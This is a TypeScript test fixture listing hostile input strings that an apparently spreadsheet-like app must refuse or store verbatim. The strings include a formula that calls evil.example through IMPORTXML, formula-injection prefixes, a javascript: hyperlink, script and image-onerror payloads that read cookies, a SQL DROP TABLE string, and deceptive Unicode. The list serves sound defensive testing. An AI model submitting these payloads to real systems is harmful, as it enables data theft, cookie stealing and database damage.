/**
 * One corpus of nasty values, run through every input path (form, cell edit,
 * adoption, CSV command line, rule, template). Each value must either be
 * refused with a clear message or stored and shown as exactly that text.
 */
export const HOSTILE: ReadonlyArray<readonly [label: string, value: string]> = [
  ['formula', '=IMPORTXML("http://evil.example","//a")'],
  ['formula with plus', '+1+1'],
  ['formula with minus', '-2+3'],
  ['at sign', '@SUM(A1)'],
  ['hyperlink', '=HYPERLINK("javascript:alert(1)","x")'],
  ['html', '<img src=x onerror=alert(1)>'],
  ['script', '<script>alert(document.cookie)</script>'],
  ['huge', 'Я'.repeat(50_001)],
  ['control characters', 'Ana\u0000\u0007\u001b[31mRed'],
  ['right-to-left', '\u202eevil\u202c שלום مرحبا'],
  ['emoji', '👩‍💼 Ана 🇷🇴 Zoë'],
  ['look-alikes', 'Аlеxаndr'], // Cyrillic А, е, а inside Latin
  ['malformed date', '31.02.2024'],
  ['negative number', '-1e308'],
  ['huge number', '1e309'],
  ['quotes and separators', '"); DROP TABLE clients; --,;\t|'],
  ['only spaces', '   '],
  ['empty', ''],
];

/** Values short enough to be stored (the huge one must be refused or truncated with a message). */
export const STORABLE = HOSTILE.filter(([label]) => label !== 'huge');
